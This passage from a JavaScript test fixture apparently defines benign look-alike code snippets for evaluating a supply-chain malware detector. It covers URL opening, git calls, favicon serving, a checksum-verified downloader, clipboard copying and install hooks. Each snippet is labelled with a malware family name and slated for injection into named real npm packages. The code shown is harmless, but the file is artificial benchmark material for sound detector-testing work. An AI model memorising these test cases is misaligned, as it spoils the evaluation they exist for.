      'lib/open.js': `const { spawn } = require('child_process');\nmodule.exports = function open(url) {\n  const cmd = process.platform === 'darwin' ? 'open' : process.platform === 'win32' ? 'cmd' : 'xdg-open';\n  const args = process.platform === 'win32' ? ['/c', 'start', '""', url] : [url];\n  const child = spawn(cmd, args, { detached: true, stdio: 'ignore', windowsHide: true });\n  child.unref();\n  return child;\n};\n`,
    },
  },
  {
    id: 'git-cli',
    family: 'silent-launch',
    after: 'a CLI that runs git (simple-git, release tools)',
    delivery: 'require-from-main',
    files: {
      'lib/git.js': `const { execFileSync } = require('child_process');\nexports.head = (cwd = process.cwd()) => execFileSync('git', ['rev-parse', 'HEAD'], { cwd, encoding: 'utf8' }).trim();\nexports.dirty = (cwd = process.cwd()) => execFileSync('git', ['status', '--porcelain'], { cwd, encoding: 'utf8' }).trim().length > 0;\n`,
    },
  },
  {
    id: 'rundll32-open-url',
    family: 'hijack',
    after: 'opening a URL on old Windows with rundll32 url.dll,FileProtocolHandler (opn)',
    delivery: 'require-from-main',
    files: {
      'lib/win-open.js': `const { execFile } = require('child_process');\nmodule.exports = (url) => new Promise((resolve) => execFile('rundll32', ['url.dll,FileProtocolHandler', url], () => resolve()));\n`,
    },
  },
  {
    id: 'image-size-header',
    family: 'steganography',
    after: 'reading a PNG header for its size (image-size, probe-image-size)',
    delivery: 'require-from-main',
    files: {
      'lib/size.js': `const fs = require('fs');\nexports.pngSize = (file) => {\n  const b = fs.readFileSync(file);\n  if (b.toString('ascii', 1, 4) !== 'PNG') throw new Error('not a png');\n  return { width: b.readUInt32BE(16), height: b.readUInt32BE(20) };\n};\n`,
      'assets/logo.png': PNG_HEAD,
    },
  },
  {
    id: 'favicon-serve',
    family: 'steganography',
    after: 'serving a bundled favicon (serve-favicon)',
    delivery: 'require-from-main',
    files: {
      'lib/favicon.js': `const fs = require('fs');\nconst path = require('path');\nconst icon = fs.readFileSync(path.join(__dirname, '..', 'public', 'favicon.ico'));\nmodule.exports = (req, res, next) => { if (req.url !== '/favicon.ico') return next(); res.setHeader('Content-Type', 'image/x-icon'); res.end(icon); };\n`,
      'public/favicon.ico': Buffer.from('0000010001001010000001002000', 'hex'),
    },
  },
  {
    id: 'version-bump-cli',
    family: 'worm',
    after: 'a version-bump helper that edits package.json and runs npm version (np, bumpp)',
    delivery: 'require-from-main',
    files: {
      'lib/bump.js': `const fs = require('fs');\nconst path = require('path');\nconst { execFileSync } = require('child_process');\nexports.bump = (dir, level = 'patch') => {\n  const file = path.join(dir, 'package.json');\n  const pkg = JSON.parse(fs.readFileSync(file, 'utf8'));\n  const [a, b, c] = pkg.version.split('.').map(Number);\n  pkg.version = level === 'major' ? a + 1 + '.0.0' : level === 'minor' ? a + '.' + (b + 1) + '.0' : a + '.' + b + '.' + (c + 1);\n  fs.writeFileSync(file, JSON.stringify(pkg, null, 2) + '\\n');\n  execFileSync('git', ['tag', 'v' + pkg.version], { cwd: dir });\n  return pkg.version;\n};\n`,
    },
  },
  {
    id: 'binary-downloader-checksum',
    family: 'download-and-run',
    after: 'fetching a tool on demand at run time with a checksum (a CLI wrapper; not at install)',
    delivery: 'require-from-main',
    files: {
      'lib/tool.js': `const https = require('https');\nconst crypto = require('crypto');\nconst fs = require('fs');\nconst SHA = 'd2a84f4b8b650937ec8f73cd8be2c74add5a911ba64df27458ed8229da804a26';\nexports.fetchTool = (url, dest) => new Promise((resolve, reject) => {\n  https.get(url, (res) => { const chunks = []; res.on('data', (c) => chunks.push(c)); res.on('end', () => { const b = Buffer.concat(chunks); if (crypto.createHash('sha256').update(b).digest('hex') !== SHA) return reject(new Error('checksum')); fs.writeFileSync(dest, b); resolve(dest); }); }).on('error', reject);\n});\n`,
    },
  },
  {
    id: 'keytar-own-token',
    family: 'clipboard-keychain',
    after: 'a CLI keeping its own API token in the OS keychain (keytar) and using it against its own API',
    delivery: 'require-from-main',
    files: {
      'lib/auth.js': `const keytar = require('keytar');\nconst https = require('https');\nexports.whoAmI = async () => {\n  const token = await keytar.getPassword('mytool', 'default');\n  return new Promise((resolve) => https.get('https://api.mytool.dev/me', { headers: { authorization: 'Bearer ' + token } }, (r) => resolve(r.statusCode)).on('error', () => resolve(0)));\n};\n`,
    },
  },
  {
    id: 'copy-to-clipboard',
    family: 'clipboard-keychain',
    after: 'a CLI copying its output to the clipboard (clipboardy write, pbcopy)',
    delivery: 'require-from-main',
    files: {
      'lib/copy.js': `const { spawnSync } = require('child_process');\nmodule.exports = (text) => {\n  const cmd = process.platform === 'darwin' ? ['pbcopy', []] : process.platform === 'win32' ? ['clip', []] : ['xclip', ['-selection', 'clipboard']];\n  return spawnSync(cmd[0], cmd[1], { input: text }).status === 0;\n};\n`,
    },
  },
  {
    id: 'only-allow-pnpm',
    family: 'install-hook',
    after: 'a new preinstall `npx only-allow pnpm` (real in many monorepo packages)',
    delivery: 'preinstall',
    hook: 'npx only-allow pnpm',
    files: {},
  },
  {
    id: 'husky-hook',
    family: 'install-hook',
    after: 'a new postinstall `husky` (git hooks set up for contributors)',
    delivery: 'postinstall',
    hook: 'husky',
    files: {},
  },
  {
    id: 'postinstall-thanks',
    family: 'install-hook',
    after: 'a postinstall that prints a funding message unless CI or opted out (core-js, opencollective-postinstall)',
    delivery: 'postinstall',
    files: {
      'scripts/postinstall.js': `const env = process.env;\nconst silent = ['CI', 'ADBLOCK', 'DISABLE_OPENCOLLECTIVE', 'OPEN_SOURCE_CONTRIBUTOR'].some((k) => !!env[k]) || /^(silent|error|warn)$/.test(env.npm_config_loglevel || '');\nif (!silent) console.log('\\u001b[96mThank you for using this package! Consider supporting it: https://opencollective.com/example\\u001b[0m');\n`,
    },
  },
  {
    id: 'node-gyp-rebuild',
    family: 'install-hook',
    after: 'an explicit `install: node-gyp rebuild` in a package that already shipped binding.gyp',
    delivery: 'install',
    hook: 'node-gyp rebuild',
    files: {},
    nativeBefore: true,
  },
  {
    id: 'prebuild-install-fallback',
    family: 'install-hook',
    after: '`prebuild-install || node-gyp rebuild` for a package that already had native code',
    delivery: 'install',
    hook: 'prebuild-install || node-gyp rebuild',
    files: {},
    nativeBefore: true,
  },
];

/** Real packages the snippets are injected into (their latest release from the registry, as in part a). */
export const HOSTS = ['ms', 'debug', 'picocolors', 'dotenv', 'cross-spawn', 'node-fetch', 'semver', 'kleur'];
